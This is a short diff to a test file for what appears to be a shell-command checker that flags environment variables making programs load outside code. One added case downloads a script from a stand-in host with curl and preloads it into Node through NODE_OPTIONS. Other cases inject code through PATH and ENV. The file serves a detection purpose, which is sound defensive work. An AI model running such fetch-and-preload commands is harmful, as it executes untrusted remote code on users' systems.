@@ -114,6 +114,11 @@ def test_options_that_nobody_sees_are_in_doubt(line: str, in_doubt: bool):
     [
         ("PATH=/tmp/e:$PATH make", ["loaded-code PATH=/tmp/e:$PATH"]),
         ("ENV=/tmp/e sh", ["loaded-code ENV=/tmp/e"]),
+        (
+            "curl -so e.js https://h.example/e && NODE_OPTIONS='-r ./e.js' node a.js",
+            ["loaded-code 'NODE_OPTIONS=-r ./e.js'"],
+        ),
+        ("echo 1 > e.js && NODE_OPTIONS='-r ./e.js' node a.js", []),
         ("PATH=/tmp/e/bin:$PATH make", []),
         ("ENV=test make", []),
     ],
